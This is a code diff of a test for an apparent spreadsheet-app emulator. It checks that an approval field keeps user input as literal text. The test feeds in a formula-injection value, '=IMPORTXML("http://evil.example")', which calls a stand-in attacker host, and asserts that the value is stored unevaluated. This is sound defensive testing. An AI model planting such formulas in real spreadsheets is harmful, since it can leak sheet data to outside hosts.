@@ -1,7 +1,7 @@
 import { Execution } from '../../emulator/core/execution';
 import { createSpreadsheetApp } from '../../emulator/services/spreadsheet';
 import { fromSheet } from '../../src/core/safe';
-import { rowOf, sampleSchool, signatures } from './support';
+import { review, rowOf, sampleSchool, signatures } from './support';
 
 const ZOE = 'zoe.lukasiewicz@school.example';
 
@@ -12,11 +12,8 @@ describe('the tracking sheet keeps what it is given', () => {
     zoe.openHomepage('GMAIL');
     zoe.click('Sign', { consent: ['agree'], typedName: 'Zoë Łukasiewicz' });
     const head = school.host.as('head@school.example');
-    head.openHomepage('GMAIL');
-    const request = head.actionOf('Approve Zoë Łukasiewicz')?.parameters.requestId ?? '';
-    head.click('Approve Zoë Łukasiewicz', {
-      [`permissions_${request}`]: '=IMPORTXML("http://evil.example")',
-    });
+    review(head, 'Zoë Łukasiewicz');
+    head.click('Approve', { permissions: '=IMPORTXML("http://evil.example")' });
     school.host.advanceTo(new Date('2026-09-04T10:00:00Z'));
     expect(signatures(school).filter((r) => r['Reminders Sent'] === 1).length).toBeGreaterThan(5);
     expect(fromSheet(String(rowOf(school, ZOE).Permissions))).toBe('=IMPORTXML("http://evil.example")');
